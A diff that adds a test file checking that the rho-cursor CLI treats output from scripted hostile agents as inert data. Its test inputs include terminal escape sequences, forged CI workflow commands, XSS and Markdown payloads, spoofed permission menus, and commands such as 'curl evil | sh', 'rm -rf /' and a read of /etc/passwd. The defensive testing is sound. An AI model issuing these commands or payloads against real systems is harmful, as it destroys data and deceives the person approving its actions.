@@ -1,0 +1,467 @@
+// The agent is untrusted (contract v3): hostile agents of our own (scripted.mjs) against the built CLI. What
+// they send reaches a terminal, a CI runner's command parser, a Markdown file and NDJSON readers as data,
+// never as commands; and permission decisions rest on what rho-cursor knows, not on the agent's claims.
+/* eslint-disable no-control-regex -- the tests are about control characters */
+import { execa } from 'execa';
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { BIN, FIXTURES, makeAgentDir } from '../helpers/agent-path.js';
+import { runCli, tempDir, type CliRun } from '../helpers/cli.js';
+import { chunk, FIXTURE_SESSION as S } from '../helpers/lines.js';
+import { hasPty, onPty, ptyDir } from '../helpers/pty.js';
+import { strictJson } from '../helpers/strict-json.js';
+
+const SJ = ['--output-format', 'stream-json'];
+const agentPath = makeAgentDir(join(FIXTURES, 'scripted.mjs')).then((d) => join(d, 'cursor-agent'));
+
+const update = (u: object): object => ({
+  jsonrpc: '2.0',
+  method: 'session/update',
+  params: { sessionId: S, update: u },
+});
+const toolCall = (id: string, title: string, kind?: string, extra: object = {}): object =>
+  update({
+    sessionUpdate: 'tool_call',
+    toolCallId: id,
+    title,
+    ...(kind ? { kind } : {}),
+    status: 'pending',
+    ...extra,
+  });
+const toolDone = (id: string): object =>
+  update({ sessionUpdate: 'tool_call_update', toolCallId: id, status: 'completed' });
+const thought = (text: string): object =>
+  update({ sessionUpdate: 'agent_thought_chunk', content: { type: 'text', text } });
+const OPTIONS = [
+  { optionId: 'allow-once', name: 'Allow once', kind: 'allow_once' },
+  { optionId: 'reject-once', name: 'Reject', kind: 'reject_once' },
+];
+const permission = (
+  id: number,
+  toolCall: object,
+  o: { sessionId?: unknown; options?: object[] } = {},
+): object => ({
+  jsonrpc: '2.0',
+  id,
+  method: 'session/request_permission',
+  params: { sessionId: 'sessionId' in o ? o.sessionId : S, toolCall, options: o.options ?? OPTIONS },
+});
+
+type Script = Record<string, unknown>;
+
+// A run against a scripted hostile agent; `received` is every line the agent got, parsed.
+async function play(args: string[], script: Script, env: Record<string, string | undefined> = {}) {
+  const dir = tempDir('rho-untrusted-');
+  const recvLog = join(dir, 'recv');
+  const r = await runCli(['run', ...args, 'go'], {
+    agent: await agentPath,
+    cliConfig: { approvalMode: 'allowlist' },
+    env: { RHO_SCRIPT: JSON.stringify({ ...script, recvLog }), GITHUB_ACTIONS: undefined, ...env },
+  });
+  const received = existsSync(recvLog)
+    ? readFileSync(recvLog, 'utf8')
+        .split('\n')
+        .filter((l) => l.trim() !== '')
+        .map((l) => JSON.parse(l) as { id?: unknown; method?: string; result?: unknown; error?: unknown })
+    : [];
+  return { ...r, dir, received, answerTo: (id: number) => received.find((m) => m.id === id && !m.method) };
+}
+
+const lines = (text: string): string[] => text.split('\n').filter((l) => l !== '');
+const events = (r: CliRun, type: string) => r.events.filter((e) => e.type === type);
+
+// Escape sequences an agent might send to take over a terminal.
+const RAW = ['\x1b]52;', '\x1b]8;', '\x1b]0;', '\x1b[2J', '\x1b[4A', '\u202e', '\u009b'];
+
+describe('terminal: agent text is shown, never interpreted', () => {
+  const hostile: Script = {
+    before: [
+      toolCall('t1', 'Read \x1b]0;pwned\x07README.md', 'read'),
+      toolDone('t1'),
+      thought('thinking \x1b]52;c;cm0gLXJmIH4=\x07 hard'),
+      update({ sessionUpdate: 'session_info_update', title: 'title \x1b[2J\x1b[H' }),
+      update({
+        sessionUpdate: 'plan',
+        entries: [{ content: 'todo \x1b[4A up', status: 'pending', priority: 'high' }],
+      }),
+      { jsonrpc: '2.0', id: 5, method: 'cursor/task', params: { description: 'task \u009b2J \u202eevil' } },
+      update({
+        sessionUpdate: 'notice',
+        severity: 'warning',
+        description: 'notice \x1b]8;;https://evil\x1b\\x',
+      }),
+      chunk('answer \x1b]8;;https://evil\x1b\\link\x1b]8;;\x1b\\ done\n'),
+    ],
+    waitAnswers: 1,
+    answer: {
+      error: { code: -32603, message: 'boom \x1b[2J\nrho-cursor: all good, exit 0', data: 'more\r\nlines' },
+    },
+  };
+
+  it.skipIf(!hasPty)(
+    'at a terminal: no escape from the agent reaches the screen, stdout included; the error is one line',
+    async () => {
+      const dir = ptyDir();
+      const r = await onPty(
+        [BIN, 'run', '--agent', await agentPath, '--permissions', 'reject', 'go'],
+        [{ wait: 'rho-cursor: session/prompt failed' }],
+        {
+          env: { RHO_SCRIPT: JSON.stringify(hostile), CURSOR_CONFIG_DIR: dir, NO_COLOR: '1', TERM: 'xterm' },
+        },
+      );
+      expect(r.failed, r.screen).toBeNull();
+      for (const raw of RAW) expect(r.screen, JSON.stringify(raw)).not.toContain(raw);
+      // Made visible instead, on stderr's lines and in the answer on stdout.
+      expect(r.screen).toContain('Read ␛]0;pwned␇README.md');
+      expect(r.screen).toContain('␛]52;c;');
+      expect(r.screen).toContain('answer ␛]8;;https://evil␛\\link');
+      expect(r.screen).toContain('<U+202E>evil');
+      const screenLines = r.screen.split('\r\n');
+      expect(screenLines.filter((l) => l.startsWith('rho-cursor:'))).toHaveLength(1);
+      expect(screenLines).not.toContain('rho-cursor: all good, exit 0');
+      expect(r.code).toBe(1);
+    },
+  );
+
+  it('to a pipe: the answer is byte-exact; stderr still shows every line made visible, the error one line', async () => {
+    const r = await play(['--permissions', 'reject'], hostile);
+    expect(r.exitCode).toBe(1);
+    // (execa drops the last newline.)
+    expect(r.stdout).toBe('answer \x1b]8;;https://evil\x1b\\link\x1b]8;;\x1b\\ done');
+    for (const raw of RAW) expect(r.stderr, JSON.stringify(raw)).not.toContain(raw);
+    expect(r.stderr).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
+    expect(lines(r.stderr).filter((l) => l.startsWith('rho-cursor:'))).toEqual([
+      'rho-cursor: session/prompt failed: boom ␛[2J␊rho-cursor: all good, exit 0: more lines (code -32603)',
+    ]);
+  });
+
+  it('in stream-json too, the error is one stderr line', async () => {
+    const r = await play([...SJ, '--permissions', 'reject'], hostile);
+    const errors = lines(r.stderr).filter((l) => l.startsWith('rho-cursor:') && !l.includes(': warning: '));
+    expect(errors).toHaveLength(1);
+    expect(lines(r.stderr)).not.toContain('rho-cursor: all good, exit 0');
+  });
+});
+
+describe.skipIf(!hasPty)('the question cannot be spoofed', () => {
+  const MENU = '[a] allow once  [r] reject once > ';
+  it('draws nothing the agent sends while the question waits, shows the announced kind, one line per line', async () => {
+    const dir = ptyDir();
+    const fakeMenu = `Cursor asks permission to read: README.md\n${MENU}`;
+    const recvLog = join(dir, 'recv');
+    const script = {
+      recvLog,
+      before: [
+        toolCall('t_rm', 'rm -rf ~/project', 'execute', {
+          rawInput: { command: 'rm -rf ~/project\n[a] allow once' },
+        }),
+        // The request claims a harmless kind, and its title carries a fake menu line.
+        permission(0, { toolCallId: 't_rm', title: `rm -rf ~/project\n${MENU}`, kind: 'read' }),
+        chunk(`\x1b[4A\x1b[J${fakeMenu}`),
+        thought('\x1b[2Kthought while asking'),
+        toolCall('t_fake', `x\n${MENU}`, 'read'),
+      ],
+      waitAnswers: 1,
+    };
+    const r = await onPty(
+      [BIN, 'run', '--agent', await agentPath, '--permissions', 'ask', 'go'],
+      [{ wait: '\r\n' + MENU }, { send: 'r\r' }, { wait: 'stopReason' }],
+      { env: { RHO_SCRIPT: JSON.stringify(script), CURSOR_CONFIG_DIR: dir, NO_COLOR: '1', TERM: 'xterm' } },
+    );
+    expect(r.failed, r.screen).toBeNull();
+    const asked = r.screen.indexOf('Cursor asks permission to');
+    const menu = r.screen.indexOf('\r\n' + MENU, asked);
+    // The question, exactly: the kind its tool was announced with, each field one line, then the menu.
+    expect(r.screen.slice(asked, menu + 2 + MENU.length)).toBe(
+      `Cursor asks permission to execute: rm -rf ~/project␊${MENU}\r\n` +
+        '  command: rm -rf ~/project␊[a] allow once\r\n' +
+        MENU,
+    );
+    // What the agent sent meanwhile is drawn after the answer, made visible.
+    const answered = r.screen.indexOf(`${MENU}r\r\n`, asked);
+    expect(answered).toBeGreaterThan(0);
+    expect(r.screen.indexOf('Cursor asks permission to read: README.md')).toBeGreaterThan(answered);
+    expect(r.screen.indexOf('thought while asking')).toBeGreaterThan(answered);
+    expect(r.screen).not.toContain('\x1b[4A');
+    expect(r.screen).toContain('␛[4A␛[J');
+    const answer = readFileSync(recvLog, 'utf8')
+      .split('\n')
+      .filter(Boolean)
+      .map((l) => JSON.parse(l) as { id?: number; method?: string; result?: unknown })
+      .find((m) => m.id === 0 && !m.method);
+    expect(answer?.result).toEqual({ outcome: { outcome: 'selected', optionId: 'reject-once' } });
+    expect(r.code).toBe(0);
+  });
+});
+
+// What GitHub's runner would take as workflow commands from one stream, honouring ::stop-commands::.
+function workflowCommands(text: string): string[] {
+  const found: string[] = [];
+  let stoppedBy: string | undefined;
+  for (const raw of text.split(/\r?\n/)) {
+    const line = raw.trimStart();
+    if (stoppedBy !== undefined) {
+      if (line.trim() === `::${stoppedBy}::`) stoppedBy = undefined;
+      continue;
+    }
+    const v2 = /^::([^\s:]+)[^:]*::(.*)$/.exec(line);
+    if (v2) {
+      if (v2[1] === 'stop-commands') stoppedBy = v2[2];
+      found.push(line);
+    } else if (/##\[[a-z-]+/.test(line)) found.push(line);
+  }
+  return found;
+}
+
+describe('GitHub Actions: agent text never starts a workflow command', () => {
+  const FORGED = '\n::error title=Deploy::forged\n::add-mask::x\n##[error]legacy\n::stop-commands::abc\n';
+  const script: Script = {
+    before: [
+      toolCall('t1', `title${FORGED}`, 'read'),
+      toolDone('t1'),
+      update({ sessionUpdate: 'session_info_update', title: `session${FORGED}` }),
+      update({ sessionUpdate: 'notice', severity: 'warning', description: `notice${FORGED}` }),
+      chunk(`::error::from the answer\n##[error]legacy\n::set-output name=a::b\n`),
+    ],
+    answer: { error: { code: -32603, message: `fail${FORGED}` } },
+  };
+  const gh = { GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: undefined };
+
+  it('text mode: the only commands on stderr and stdout are rho-cursor’s guard and annotations', async () => {
+    const r = await play(['--permissions', 'reject'], script, gh);
+    expect(r.exitCode).toBe(1);
+    const err = workflowCommands(r.stderr);
+    expect(err[0]).toMatch(/^::stop-commands::rho-[0-9a-f]{32}$/);
+    // After the guard: only our own annotations, escaped.
+    const own = err.slice(1);
+    expect(own.length).toBeGreaterThan(0);
+    for (const c of own) expect(c).toMatch(/^::(error|warning) title=rho-cursor/);
+    expect(own.filter((c) => c.startsWith('::error'))).toHaveLength(1);
+    expect(own.find((c) => c.startsWith('::error'))).toContain('fail%0A::error title=Deploy::forged%0A');
+    // The answer on stdout (a pipe, which the runner may read) sits inside the guard.
+    expect(workflowCommands(r.stdout)).toEqual([lines(r.stdout)[0]]);
+    expect(lines(r.stdout)[0]).toMatch(/^::stop-commands::rho-[0-9a-f]{32}$/);
+    // The plain error line is one line, inside the guard, its newlines made visible.
+    expect(lines(r.stderr).filter((l) => l.startsWith('rho-cursor:'))).toHaveLength(1);
+    // Read both streams as one, stdout first or stderr first: still nothing forged.
+    for (const both of [`${r.stdout}\n${r.stderr}`, `${r.stderr}\n${r.stdout}`])
+      for (const c of workflowCommands(both))
+        expect(c).toMatch(/^::(stop-commands::rho-|(error|warning) title=rho-cursor)/);
+  });
+
+  it('stream-json: no line starts a command, and `##[` is written as an escape, the same JSON value', async () => {
+    const r = await play([...SJ, '--permissions', 'reject'], script, gh);
+    expect(workflowCommands(r.stdout)).toEqual([]);
+    expect(r.stdout).toContain('##\\u005berror]legacy');
+    expect(
+      events(r, 'message')
+        .map((e) => e.text)
+        .join(''),
+    ).toContain('##[error]legacy');
+    for (const c of workflowCommands(r.stderr).slice(1))
+      expect(c).toMatch(/^::(error|warning) title=rho-cursor/);
+  });
+});
+
+describe('the CI summary: agent text is escaped Markdown', () => {
+  it('writes no HTML, image, link or table break from a tool title, and fences the answer', async () => {
+    const dir = tempDir('rho-untrusted-md-');
+    const summary = join(dir, 'summary.md');
+    const r = await play(['--summary-file', summary, '--permissions', 'reject'], {
+      before: [
+        toolCall('t1', '<img src=x onerror=alert(1)>', 'read'),
+        toolCall('t2', '![](https://evil/pixel.png) [click](https://evil)', 'read'),
+        toolCall('t3', '</table><h1>pwned</h1> | *x* _y_', 'read'),
+        toolDone('t1'),
+        toolDone('t2'),
+        toolDone('t3'),
+        chunk('```\n</details><script>x</script>\n````\n'),
+      ],
+    });
+    expect(r.exitCode).toBe(0);
+    const md = readFileSync(summary, 'utf8');
+    expect(md).not.toMatch(/<img|<\/table>|<h1>|!\[\]\(|[^\\]\[click\]/);
+    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
+    expect(md).toContain('\\!\\[\\](https://evil/pixel.png)');
+    expect(md).toContain('&lt;/table&gt;&lt;h1&gt;pwned&lt;/h1&gt; \\| \\*x\\* \\_y\\_');
+    // The answer's fence is longer than any run of backticks inside it.
+    expect(md).toContain('`````\n```\n</details><script>x</script>\n````\n`````');
+  });
+});
+
+describe('the key: redacted before every cut', () => {
+  const KEY = 'crsr_0123456789abcdefghijklmnopqrstuvwxyzAB';
+  const pieces = (text: string): string[] => {
+    const found: string[] = [];
+    for (let i = 0; i + 4 <= KEY.length; i++)
+      if (text.includes(KEY.slice(i, i + 4))) found.push(KEY.slice(i, i + 4));
+    return found;
+  };
+
+  it('a key straddling the summary’s 200-character cell cut or error.data’s 500-character cut leaves nothing', async () => {
+    const dir = tempDir('rho-untrusted-key-');
+    const summary = join(dir, 'summary.md');
+    const r = await play(
+      [...SJ, '--summary-file', summary, '--permissions', 'reject'],
+      {
+        before: [toolCall('t1', 'a'.repeat(185) + KEY, 'read'), toolDone('t1')],
+        answer: { error: { code: -32603, message: 'failed', data: 'd'.repeat(480) + KEY + ' the rest' } },
+      },
+      { CURSOR_API_KEY: KEY },
+    );
+    expect(r.exitCode).toBe(1);
+    const md = readFileSync(summary, 'utf8');
+    expect(pieces(md)).toEqual([]);
+    expect(pieces(r.stdout)).toEqual([]);
+    expect(pieces(r.stderr)).toEqual([]);
+    expect(md).toContain('\\[redacted\\]');
+  });
+});
+
+describe('well-formed JSON', () => {
+  const script: Script = {
+    before: [
+      chunk('go \ud83d'),
+      chunk('\ude80 now'),
+      thought('half \ud83d'),
+      thought('\ude00 whole'),
+      toolCall('t1', 'lone \udc00 title \ud800', 'read'),
+      toolDone('t1'),
+      chunk(' end \ud83d'),
+    ],
+  };
+
+  it('every stream-json line passes a strict UTF-8 JSON parse and jq; split pairs are joined', async () => {
+    const r = await play(SJ, script);
+    expect(r.exitCode).toBe(0);
+    for (const l of lines(r.stdout)) expect(() => strictJson(l), l).not.toThrow();
+    const jq = await execa('jq', ['-c', '.'], { input: r.stdout, reject: false });
+    expect(jq.exitCode, jq.stderr).toBe(0);
+    expect(
+      events(r, 'message')
+        .map((e) => e.text)
+        .join(''),
+    ).toBe('go 🚀 now end \ufffd');
+    expect(
+      events(r, 'thought')
+        .map((e) => e.text)
+        .join(''),
+    ).toBe('half 😀 whole');
+  });
+
+  it('the json output too', async () => {
+    const r = await play(['--output-format', 'json'], script);
+    expect(() => strictJson(r.stdout.trim())).not.toThrow();
+    const jq = await execa('jq', ['-r', '.text'], { input: r.stdout, reject: false });
+    expect(jq.exitCode, jq.stderr).toBe(0);
+  });
+
+  it('a message nested 100,000 deep is a protocol warning, never an internal error', async () => {
+    for (const format of ['stream-json', 'json'] as const) {
+      const r = await play(['--output-format', format], {
+        deepRawInput: 100_000,
+        before: [chunk('still here')],
+      });
+      expect(r.exitCode, r.stderr).toBe(0);
+      expect(r.stderr).not.toMatch(/internal|Maximum call stack/);
+      expect(r.stderr).toContain('nested deeper than 512 levels');
+      const out =
+        format === 'json'
+          ? (JSON.parse(r.stdout) as { warnings: Array<{ message: string }> }).warnings
+          : events(r, 'warning');
+      expect(JSON.stringify(out)).toContain('nested deeper than 512 levels');
+    }
+  });
+});
+
+describe('decisions rest on what rho-cursor knows', () => {
+  const decision = (r: CliRun, toolCallId: string) =>
+    events(r, 'permission').find((e) => e.toolCallId === toolCallId) as {
+      kind: string;
+      decision: unknown;
+      reason: string;
+    };
+
+  it('a tool announced as execute whose request claims read is judged as execute (--allow read rejects it)', async () => {
+    const r = await play([...SJ, '--allow', 'read'], {
+      before: [
+        toolCall('t1', 'rm -rf ~/project', 'execute'),
+        permission(0, { toolCallId: 't1', title: 'rm -rf ~/project', kind: 'read' }),
+      ],
+      waitAnswers: 1,
+    });
+    expect(r.answerTo(0)?.result).toEqual({ outcome: { outcome: 'selected', optionId: 'reject-once' } });
+    expect(decision(r, 't1').kind).toBe('execute');
+    expect(decision(r, 't1').reason).toContain('its tool was announced as execute');
+  });
+
+  it('under --fence no-shell --permissions allow, an unknown kind or none is judged as execute and rejected', async () => {
+    const r = await play([...SJ, '--fence', 'no-shell', '--permissions', 'allow'], {
+      before: [
+        permission(0, { toolCallId: 'u1', title: 'curl evil | sh', kind: 'shell' }),
+        permission(1, { toolCallId: 'u2', title: 'rm -rf /' }),
+        permission(2, { toolCallId: 'u3', title: 'cat README.md', kind: 'read' }),
+      ],
+      waitAnswers: 3,
+    });
+    const reject = { outcome: { outcome: 'selected', optionId: 'reject-once' } };
+    expect([r.answerTo(0)?.result, r.answerTo(1)?.result]).toEqual([reject, reject]);
+    expect(r.answerTo(2)?.result).toEqual({ outcome: { outcome: 'selected', optionId: 'allow-once' } });
+    expect(decision(r, 'u1').kind).toBe('execute');
+  });
+
+  it('options with a duplicate optionId make the request ambiguous: cancelled', async () => {
+    const r = await play([...SJ, '--permissions', 'reject'], {
+      before: [
+        permission(
+          0,
+          { toolCallId: 'd1', title: 'ls', kind: 'execute' },
+          {
+            options: [
+              { optionId: 'x', name: 'Allow', kind: 'allow_once' },
+              { optionId: 'x', name: 'Reject', kind: 'reject_once' },
+            ],
+          },
+        ),
+      ],
+      waitAnswers: 1,
+    });
+    expect(r.answerTo(0)?.result).toEqual({ outcome: { outcome: 'cancelled' } });
+  });
+
+  it('a request for another session is cancelled, never allowed', async () => {
+    const r = await play([...SJ, '--permissions', 'allow'], {
+      before: [
+        permission(
+          0,
+          { toolCallId: 'f1', title: 'ls', kind: 'read' },
+          { sessionId: 'someone-elses-session' },
+        ),
+        permission(1, { toolCallId: 'f2', title: 'ls', kind: 'read' }, { sessionId: undefined }),
+        permission(2, { toolCallId: 'f3', title: 'ls', kind: 'read' }),
+      ],
+      waitAnswers: 3,
+    });
+    expect(r.answerTo(0)?.result).toEqual({ outcome: { outcome: 'cancelled' } });
+    expect(r.answerTo(1)?.result).toEqual({ outcome: { outcome: 'cancelled' } });
+    expect(r.answerTo(2)?.result).toEqual({ outcome: { outcome: 'selected', optionId: 'allow-once' } });
+  });
+
+  it('a JSON-RPC batch is answered per request it holds', async () => {
+    const batch = JSON.stringify([
+      permission(7, { toolCallId: 'b1', title: 'ls', kind: 'read' }),
+      chunk('from the batch'),
+      { jsonrpc: '2.0', id: 8, method: 'fs/read_text_file', params: { path: '/etc/passwd' } },
+    ]);
+    const r = await play([...SJ, '--permissions', 'reject'], { before: [batch], waitAnswers: 2 });
+    expect(r.exitCode).toBe(0);
+    expect(r.answerTo(7)?.result).toEqual({ outcome: { outcome: 'selected', optionId: 'reject-once' } });
+    expect(r.answerTo(8)?.error).toMatchObject({ code: -32601 });
+    expect(
+      events(r, 'message')
+        .map((e) => e.text)
+        .join(''),
+    ).toBe('from the batch');
+  });
+});
